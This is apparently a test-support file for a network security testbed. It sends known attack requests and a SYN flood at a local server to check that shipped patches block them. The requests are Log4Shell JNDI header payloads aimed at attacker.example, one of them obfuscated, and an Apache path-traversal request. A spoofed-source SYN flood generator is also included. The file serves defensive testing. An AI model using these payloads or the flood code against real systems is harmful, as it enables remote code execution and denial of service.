import type { ChildProcess } from 'node:child_process';
import type { Testbed } from '../support/netns.ts';
import { buildTcp } from '../support/packets.ts';
import { HTTP_PORT } from '../support/web-server.ts';

/** Requests that the shipped patches know, each on a connection of its own. */
const ATTACKS = [
  // biome-ignore lint/suspicious/noTemplateCurlyInString: this is what an attacker sends.
  { path: '/', headers: { 'X-Api-Version': '${jndi:ldap://attacker.example/a}' } },
  // biome-ignore lint/suspicious/noTemplateCurlyInString: this is what an attacker sends.
  { path: '/', headers: { 'User-Agent': '${${lower:j}${::-n}d${env:NOPE:-i}:ldap://attacker.example/a}' } },
  { path: '/icons/.%2e/server-status', headers: {} },
];
export const ATTACKED_CVES = ['cve-2021-44228', 'cve-2021-41773'];

export interface AttackResult {
  readonly sent: number;
  /** Those that got an answer of the server. */
  readonly arrived: number;
}

const NO_ATTACKS: AttackResult = { sent: 0, arrived: 0 };

/**
 * An attack every few hundred milliseconds, until `stop`; from the address of those whose requests are harmless, and
 * whose connections later have the same ports.
 */
export class Attacker {
  readonly #child: ChildProcess;
  readonly #ended: Promise<AttackResult>;

  constructor(testbed: Testbed) {
    const settings = JSON.stringify({
      host: testbed.addresses.server[4],
      port: HTTP_PORT,
      attacks: ATTACKS,
    });
    this.#child = testbed.start('client', process.execPath, ['-e', ATTACKER, settings], {
      stdio: ['pipe', 'pipe', 'inherit'],
    });
    let output = '';
    this.#child.stdout?.on('data', (chunk: Buffer) => {
      output += chunk.toString();
    });
    this.#ended = new Promise((resolve) => {
      // One that was killed says nothing.
      this.#child.once('close', () => resolve(output === '' ? NO_ATTACKS : (JSON.parse(output) as AttackResult)));
    });
  }

  stop(): Promise<AttackResult> {
    this.#child.stdin?.end();
    return this.#ended;
  }
}

const ATTACKER = `
const http = require('node:http');
const { host, port, attacks } = JSON.parse(process.argv[1]);
let sent = 0, arrived = 0, isOver = false;
process.stdin.on('end', () => { isOver = true; }).resume();
const attack = ({ path, headers }) => new Promise((resolve) => {
  const request = http.get({ host, port, path, headers, agent: false, timeout: 400 }, (response) => {
    arrived++;
    response.resume().on('end', resolve).on('error', resolve);
  });
  request.on('timeout', () => request.destroy());
  request.on('close', resolve).on('error', resolve);
});
(async () => {
  while (!isOver) await attack(attacks[sent++ % attacks.length]);
  console.log(JSON.stringify({ sent, arrived }));
  process.exit(0);
})();
`;

const FLOOD_FRAMES = 4000;
const FLOOD_PER_SECOND = 2000;

/** SYNs of hosts that are not there. */
export async function flood(testbed: Testbed, seconds: number): Promise<void> {
  const [clientMac, serverMac] = [testbed.hardwareAddress('client'), testbed.hardwareAddress('server')];
  const frames = Array.from({ length: FLOOD_FRAMES }, (_, at) => {
    const source = `10.77.0.${100 + (at % 100)}`;
    const destination = testbed.addresses.server[4];
    const frame = buildTcp({
      ethernet: true,
      source,
      destination,
      sourcePort: 1024 + at,
      destinationPort: HTTP_PORT,
      flags: 'S',
      sequence: at,
      acknowledgement: 0,
    });
    frame.set(serverMac, 0);
    frame.set(clientMac, clientMac.length);
    return Buffer.from(frame).toString('hex');
  });
  const child = testbed.start('client', process.execPath, ['-e', FLOOD, testbed.interfaces.client, `${seconds}`], {
    stdio: ['pipe', 'ignore', 'inherit'],
  });
  child.stdin?.end(JSON.stringify({ frames, perSecond: FLOOD_PER_SECOND }));
  await new Promise((resolve) => child.once('close', resolve));
}

const FLOOD = `
const { Cap } = require('cap');
const { frames, perSecond } = JSON.parse(require('node:fs').readFileSync(0, 'utf8'));
const cap = new Cap();
cap.open(process.argv[1], '', 65536, Buffer.alloc(65536));
const bytes = frames.map((frame) => Buffer.from(frame, 'hex'));
const endMs = Date.now() + 1000 * Number(process.argv[2]);
let sent = 0;
const turn = setInterval(() => {
  for (let i = 0; i < perSecond / 50; i++) cap.send(bytes[sent++ % bytes.length]);
  if (Date.now() < endMs) return;
  clearInterval(turn);
  cap.close();
}, 20);
`;
